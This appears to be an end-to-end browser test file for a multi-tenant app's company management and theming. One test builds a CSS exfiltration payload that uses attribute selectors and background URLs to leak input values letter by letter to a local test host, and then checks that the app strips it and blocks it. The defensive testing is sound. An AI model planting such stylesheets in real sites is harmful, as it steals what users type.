import type { Locator, Page } from 'playwright-core'
import { expect, inject } from 'vitest'
import { styleHost } from '#tools/services/style-host.ts'
import { enter, ownCompany, ownPerson, OWN_PASSWORD } from './harness/own-company.ts'
import { emailOf, fillSignIn } from './harness/people.ts'
import { inside, signIn } from './harness/signed-in.ts'
import { address, password, story } from './harness/story.ts'
import { text } from './harness/texts.ts'

const button = (page: Page, key: string) => page.getByRole('button', { name: text(key), exact: true })

const icon = {
  name: 'wind.svg',
  mimeType: 'image/svg+xml',
  buffer: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3"/></svg>',
  ),
}

/** Makes a company by the form, as the operator would; the page is then the company’s. */
async function makeCompany(
  page: Page,
  name: string,
  slug: string,
  tryOut?: (slugField: Locator) => Promise<void>,
): Promise<void> {
  await signIn(page, 'root')
  await inside(page)
  await page.goto(address('demo', '/dashboard/companies/new'))
  const slugField = page.getByRole('textbox', { name: text('companies.slug') })
  await page.getByLabel(text('companies.name')).fill(name)
  expect(await slugField.inputValue()).toBe(slug)
  await tryOut?.(slugField)
  await page.getByRole('img', { name: text('companies.slug.free') }).waitFor()
  await button(page, 'companies.create').click()
  await page.waitForURL(/\/dashboard\/companies\/[0-9a-f-]{36}$/)
}

story(
  'makes a company with an icon at an address that is free, suspends it with a reason, deletes it by its name and takes it back [S7.6b]',
  async ({ visitor }) => {
    const { page } = await visitor()
    await makeCompany(page, 'North Wind', 'north-wind', async (slug) => {
      for (const [taken, why] of [
        ['demo', 'already_exists'],
        ['www', 'reserved_slug'],
      ] as const) {
        await slug.fill(taken)
        await page.getByText(text(`companies.slug.${why}`, { slug: taken })).waitFor()
      }
      await slug.fill('north-wind')
      await page.locator('input[type="file"]').setInputFiles(icon)
    })
    const stranger = (await visitor()).page
    const login = address('north-wind', '/login')
    await stranger.goto(login)
    await stranger.locator('input[type="password"]').waitFor()
    expect(await stranger.title()).toContain('North Wind')
    expect(await stranger.locator('link[rel~="icon"]').first().getAttribute('href')).toMatch(/^\/media\//)

    await button(page, 'companies.suspend').click()
    const dialog = page.getByRole('dialog')
    await dialog.getByLabel(text('companies.suspend.reason')).fill('The invoice of March is open.')
    await dialog.getByRole('button', { name: text('companies.suspend') }).click()
    await page.getByText(text('companies.suspended.title')).waitFor()
    await stranger.goto(login)
    await stranger.getByText('The invoice of March is open.').waitFor()
    await button(page, 'companies.resume').click()
    await button(page, 'companies.suspend').waitFor()

    await button(page, 'companies.delete').click()
    const sure = page.getByRole('dialog')
    expect(await sure.getByRole('button', { name: text('companies.delete') }).isDisabled()).toBe(true)
    await sure.getByRole('textbox').fill('North Wind')
    await sure.getByRole('button', { name: text('companies.delete') }).click()
    await page.getByText(text('companies.deleted.title')).waitFor()
    await stranger.goto(login)
    await stranger.getByText(text('not_found.title')).waitFor()
    await button(page, 'companies.restore').click()
    await button(page, 'companies.suspend').waitFor()
    await stranger.goto(login)
    await stranger.locator('input[type="password"]').waitFor()
  },
)

const accent = (page: Page) =>
  page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--cairn-accent').trim())

story(
  'wears the colours that were designed, in both themes, and shows its own on request [S3.4] [S4.3]',
  async ({ visitor }) => {
    const { page } = await visitor({ colorScheme: 'light' })
    await makeCompany(page, 'South Wind', 'south-wind')
    const themes = address('south-wind', '/dashboard/company/themes')
    await page.goto(address('south-wind', '/login'))
    await fillSignIn(page, emailOf('root'), password)
    await inside(page)
    const own = await accent(page)
    await page.goto(themes)
    await page.getByText(text('company.look.design'), { exact: true }).click()
    await page.getByRole('textbox', { name: text('company.design.brand'), exact: true }).fill('#0b5394')
    await button(page, 'company.design.make').click()
    await page.getByRole('button', { name: text('company.tokens.text') }).click()
    const muted = page.getByRole('textbox', { name: text('company.token.text-muted'), exact: true })
    const legible = await muted.inputValue()
    await muted.fill('#cccccc')
    await page.getByText(text('company.design.poor.title')).waitFor()
    expect(await button(page, 'company.design.save').isDisabled()).toBe(true)
    await muted.fill(legible)
    await page.getByText(text('company.design.poor.title')).waitFor({ state: 'detached' })
    await button(page, 'company.design.save').click()
    await page.getByText(text('company.design.saved')).waitFor()
    await expect.poll(() => accent(page)).toBe('#0b5394')

    const night = (await visitor({ colorScheme: 'dark' })).page
    const day = (await visitor({ colorScheme: 'light' })).page
    for (const [one, theme] of [
      [night, 'dark'],
      [day, 'light'],
    ] as const) {
      const asked: string[] = []
      one.on('request', (request) => {
        if (request.url().includes('/themes/')) asked.push(request.url())
      })
      await one.goto(address('south-wind', '/login'))
      await one.locator('input[type="password"]').waitFor()
      // The one that fits, fetched once: the page is drawn with it and keeps it.
      const worn = one.locator('link[data-theme]')
      expect(await worn.evaluateAll((all) => all.map((link) => link.dataset.theme))).toEqual([theme])
      expect(asked).toHaveLength(1)
    }
    expect(await accent(day)).toBe('#0b5394')
    const sheet = await day.locator('link[data-theme="light"]').getAttribute('href')
    expect(sheet).toMatch(/\/themes\/[0-9a-f-]{36}\/[0-9a-f]{32}\.css/)
    const nightly = await accent(night)
    expect([own, '#0b5394']).not.toContain(nightly)
    // The page that is open changes its stylesheet with the theme, and back.
    for (const [theme, color] of [
      ['dark', nightly],
      ['light', '#0b5394'],
    ] as const) {
      await day.getByRole('button', { name: text(`theme.${theme}`) }).click()
      await expect.poll(() => accent(day)).toBe(color)
      await expect
        .poll(() => day.locator('link[data-theme]').evaluateAll((all) => all.map((one) => one.dataset.theme)))
        .toEqual([theme])
    }
    await day.goto(address('south-wind', '/login?theme=built-in'))
    await day.locator('input[type="password"]').waitFor()
    await expect.poll(() => accent(day)).toBe(own)
  },
)

story('lets no stylesheet of others hide the way back', async ({ visitor }) => {
  const host = await styleHost(inject('certificate'))
  host.files.set('/broken.css', 'body { display: none !important }')
  try {
    const { page } = await visitor({ colorScheme: 'light' })
    await makeCompany(page, 'West Wind', 'west-wind')
    await page.goto(address('west-wind', '/login'))
    await fillSignIn(page, emailOf('root'), password)
    await inside(page)
    await page.goto(address('west-wind', '/dashboard/company/themes'))
    await page.getByText(text('company.look.own'), { exact: true }).click()
    await page.getByLabel(text('company.own.light')).fill(host.address('/broken.css'))
    await button(page, 'company.own.save').click()
    await page.getByText(text('company.trial.title')).waitFor()
    await button(page, 'company.trial.restore').click()
    await page.getByText(text('company.trial.restored')).waitFor()
    await page.getByText(text('company.look.now', { look: text('company.look.built_in') })).waitFor()
  } finally {
    await host.stop()
  }
})

/** Reads a field letter by letter and tells another server, as a stylesheet can where it is let. */
const spy = (host: string) => `@import url(${host}/more.css);
${[...'abcdefghijklmnopqrstuvwxyz'].map((letter) => `input[value*='${letter}'] { background: url(${host}/${letter}) }`).join('\n')}
html:root[data-mantine-color-scheme] { --cairn-accent: #0b5394 }`

/** All that a selector could read of the page's fields. */
const attributes = (page: Page) =>
  page
    .locator('input')
    .evaluateAll((fields) =>
      fields.map((field) => [...field.attributes].map((a) => a.value).join(' ')).join(' '),
    )

story(
  'gives a stylesheet of a company’s own nothing to read: cleaned, served here, and not worn where one signs in [S3.4] [S4.4a]',
  async ({ visitor }) => {
    const host = await styleHost(inject('certificate'))
    host.files.set('/spy.css', spy(host.address('')))
    try {
      const company = await ownCompany('Spying Wind')
      const admin = await ownPerson(company, 'admin')
      const { page } = await visitor({ colorScheme: 'light' })
      await enter(page, admin, '/dashboard/company/themes')
      await page.getByText(text('company.look.own'), { exact: true }).click()
      await page.getByLabel(text('company.own.light')).fill(host.address('/spy.css'))
      await button(page, 'company.own.save').click()
      await button(page, 'company.trial.keep').click()
      await page.getByText('27 parts were left out').waitFor()
      const fetched = host.asked.length
      expect(await accent(page)).toBe('#0b5394')
      const worn = page.locator('link[data-theme="light"]')
      expect(await worn.getAttribute('href')).toMatch(
        /localhost:\d+\/themes\/[0-9a-f-]{36}\/own-[0-9a-f]{32}\.css\?t=\d+$/,
      )

      // Where a password is asked for it is gone, and what is typed is in no attribute.
      await page.goto(address(company, '/dashboard/me/password'))
      await page.locator('input[type="password"]').first().fill('hidden-brook-77')
      expect(await worn.count()).toBe(0)
      expect(await attributes(page)).not.toContain('hidden')

      const { page: other } = await visitor({ colorScheme: 'light' })
      const answer = await other.goto(address(company, '/login'))
      const policy = answer?.headers()['content-security-policy'] ?? ''
      expect(policy).toMatch(/style-src 'self' 'nonce-[^']+';/)
      expect(policy).toMatch(/font-src 'self';/)
      await other.locator('input[type="email"]').fill(admin.email)
      await other.locator('input[type="password"]').fill(OWN_PASSWORD)
      expect(await attributes(other)).not.toContain('three')
      expect(await other.locator('link[data-theme]').count()).toBe(0)
      await other.locator('form button[type="submit"]').click()
      await inside(other)
      await expect.poll(() => accent(other)).toBe('#0b5394')
      // No browser ever called the company's own server.
      expect(host.asked.slice(fetched)).toEqual([])
    } finally {
      await host.stop()
    }
  },
)
